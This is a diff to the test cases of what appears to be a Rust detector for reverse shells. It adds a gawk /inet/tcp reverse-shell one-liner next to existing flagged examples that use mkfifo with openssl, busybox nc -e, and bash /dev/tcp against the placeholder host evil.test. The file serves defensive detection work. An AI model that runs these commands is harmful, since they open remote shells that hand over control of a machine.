@@ -24,6 +24,7 @@ rule! {
         hit Shell("mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect evil.test:1 > /tmp/s"),
         hit Shell("sudo env busybox nc evil.test 1 -e sh"),
         hit Shell("nohup bash -c 'bash -i >& /dev/tcp/evil.test/9 0>&1' &"),
+        hit Shell("gawk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/1\";while(s|&getline c){while((c|getline)>0)print|&s}}'"),
         pass Shell("nc -zv localhost 5432"),
         pass Shell("nc -l 8080 > out.bin"),
         pass Shell("echo PING | nc localhost 6379"),
@@ -63,7 +64,8 @@ fn is_wired_by_code(net: &Effect, case: &Case) -> bool {
     let shells = ["sh", "bash", "zsh", "dash", "ksh", "ash"];
     let same = |effect: &&Effect| effect.span.start <= net.span.start && net.span.end <= effect.span.end;
     let mut code = case.effects.iter().filter(same);
-    let has_language = code.any(|effect| matches!(&effect.kind, EffectKind::Exec { program, .. } if is_language(program)));
+    let has_language =
+        code.any(|effect| matches!(&effect.kind, EffectKind::Exec { program, .. } if is_language(program)));
     has_language
         && case.effects.iter().filter(|effect| effect.span == net.span).any(|effect| {
             matches!(&effect.kind, EffectKind::Exec { program, argv, .. }
